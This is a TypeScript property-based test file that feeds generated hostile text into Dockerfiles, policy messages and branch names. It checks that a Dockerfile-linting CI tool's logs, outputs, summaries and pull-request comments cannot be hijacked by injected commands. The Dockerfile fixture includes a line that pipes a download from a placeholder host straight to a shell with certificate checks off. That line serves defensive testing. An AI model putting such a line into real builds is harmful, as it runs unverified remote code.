import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import process from "node:process";
import fc from "fast-check";
import { describe, expect, it, vi } from "vitest";
import { publishRun } from "../src/edge/publish-run.ts";
import { evaluate } from "../src/evaluate.ts";
import type { Policy } from "../src/model/policy.ts";
import type { Report } from "../src/model/report.ts";
import { resolvePolicy } from "../src/policy/resolve-policy.ts";
import { shortened } from "../src/report/foreign-text.ts";
import { renderPullRequestComment } from "../src/report/pull-request-comment.ts";
import { renderSarif } from "../src/report/sarif.ts";
import { readMarker, withMarker } from "../src/review/marker.ts";
import { planReview } from "../src/review/review-plan.ts";
import { rules } from "../src/rules/index.ts";
import { expectHarmless, hostileText } from "./report/markdown-reader.ts";
import { readOutput, readOutputs } from "./support/fake-runner.ts";
import { packTexts } from "./support/pack-policy.ts";
import { tree } from "./support/tree.ts";

const server = "https://github.example";
const links = {
  server,
  repository: "acme/shop",
  sha: "a".repeat(40),
  rulePages: `${server}/stagegate/stagegate/blob/v1/docs/rules/`,
};
const ours = ["error", "warning", "notice", "group", "endgroup"];
const outputs = ["conclusion", "errors", "warnings", "notices", "report", "sarif", "stages"];

/** What stays one word, or one line, of a Dockerfile. */
const word = hostileText.map((text) => text.replace(/[\s\u0085]+/g, "") || "x");
const line = hostileText.map((text) => text.replace(/[\r\n]+/g, " "));
const name = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom("build", "app", "test") },
  { weight: 1, arbitrary: word },
);
const image = fc.oneof(fc.constantFrom("golang:latest", "alpine", "debian:12"), word);

const hostileDockerfile = fc
  .record({ image, name, word, line, text: hostileText, isWild: fc.boolean() })
  .map(({ image, name, word, line, text, isWild }) =>
    [
      `# ${line}`,
      `FROM golang:1.25 AS ${name}`,
      `ENV API_TOKEN="${word}"`,
      `RUN curl -k https://x.example/${word} | sh # ${line}`,
      "RUN go build -o /app .",
      `FROM ${isWild ? image : "alpine"}`,
      `COPY a b /c/ # ${line}`,
      `COPY --from=0 /app /app`,
      ...(isWild ? [`COPY --from=${word} /app ${word}`, text] : []),
      "RUN <<EOF",
      line.replaceAll("EOF", ""),
      "EOF",
      "",
    ].join("\n"),
  );

/** A rule of the policy's own, whose words are somebody else's too when a pull request proposes them. */
function policyWith(message: string): Policy {
  const custom = {
    id: "acme/own",
    level: "error",
    each: "stage",
    assert: "false",
    message: shortened(message.replace(/[{}]/g, ""), 900),
  };
  const text = JSON.stringify({ version: 1, custom: [custom] });
  return resolvePolicy({ source: message, path: "policy.yml", text }, rules, packTexts());
}

const scene = fc
  .record({
    path: word,
    text: hostileDockerfile,
    message: hostileText.filter((text) => text.trim() !== ""),
    ref: hostileText,
  })
  .map(({ path, text, message, ref }) => ({ path: path.replaceAll("/", "-"), text, message, ref }));

describe("hostile names and texts", () => {
  it("act on no surface: neither in the log, the summary and the outputs, nor in comments", () => {
    const folder = tree({});
    const seen = { findings: 0, suggestions: 0 };
    fc.assert(
      fc.property(scene, ({ path, text, message, ref }) => {
        const change = {
          head: { sha: links.sha, ref },
          files: [{ path, text }],
          problems: [{ code: "file-not-text" as const, message, path, span: undefined, incomplete: true }],
          target: undefined,
        };
        const report = evaluate(change, policyWith(message), rules, "1.0.0", "2026-11-24");
        seen.findings += report.files.flatMap(({ findings }) => findings).length;
        expectQuietRun(report, folder);
        const lines = text.split("\n").length;
        const hunks = [{ oldStart: 0, oldLines: 0, newStart: 1, newLines: lines }];
        const changed = [{ path, previousPath: undefined, status: "added" as const, hunks }];
        const { comments } = planReview(report, changed, { links, judgesClean: () => true });
        const facts = { commented: new Set<string>(), time: undefined, runUrl: undefined, remarks: [message] };
        const bodies = [...comments.map(({ body }) => body), renderPullRequestComment(report, facts, { links })];
        for (const body of bodies) {
          expectHarmless(body, [server]);
          expect(readMarker(withMarker(body, marker, "1/1"), "1/1")).toMatchObject({ marker, isSealed: true });
        }
        seen.suggestions += bodies.filter((body) => /^`{3,}suggestion$/m.test(body)).length;
        expect(JSON.parse(renderSarif(report, rules))).toMatchObject({ version: "2.1.0" });
      }),
      { numRuns: 150 },
    );
    expect(seen.findings).toBeGreaterThan(150);
    expect(seen.suggestions).toBeGreaterThan(10);
  });
});

const marker = {
  kind: "finding",
  key: "0".repeat(16),
  fingerprint: "1".repeat(32),
  run: 1,
  head: links.sha,
  state: "open",
  refused: [],
  matter: undefined,
} as const;

function expectQuietRun(report: Report, folder: string): void {
  const [output, summary] = [join(folder, "output"), join(folder, "summary")];
  for (const path of [output, summary]) writeFileSync(path, "");
  const written: string[] = [];
  const stdout = vi.spyOn(process.stdout, "write").mockImplementation((chunk) => written.push(String(chunk)) > 0);
  vi.stubEnv("GITHUB_OUTPUT", output);
  try {
    publishRun(report, {
      annotations: "all",
      reportPath: join(folder, "report.json"),
      sarifPath: undefined,
      summaryPath: summary,
      links,
      remark: undefined,
    });
  } finally {
    stdout.mockRestore();
    vi.unstubAllEnvs();
  }
  const { commands, annotations } = readOutput(written.join(""));
  expect(commands.map(({ name }) => name).filter((name) => !ours.includes(name))).toEqual([]);
  expect(commands.filter(({ name }) => name === "group").length).toBe(1);
  const [file] = report.files;
  for (const { properties } of annotations) {
    expect([undefined, file?.source.path]).toContain(properties.file);
    expect(properties.line ?? "1").toMatch(/^\d+$/);
  }
  expect(Object.keys(readOutputs(readFileSync(output, "utf8"))).sort()).toEqual(outputs.toSorted());
  expectHarmless(readFileSync(summary, "utf8"), [server]);
}
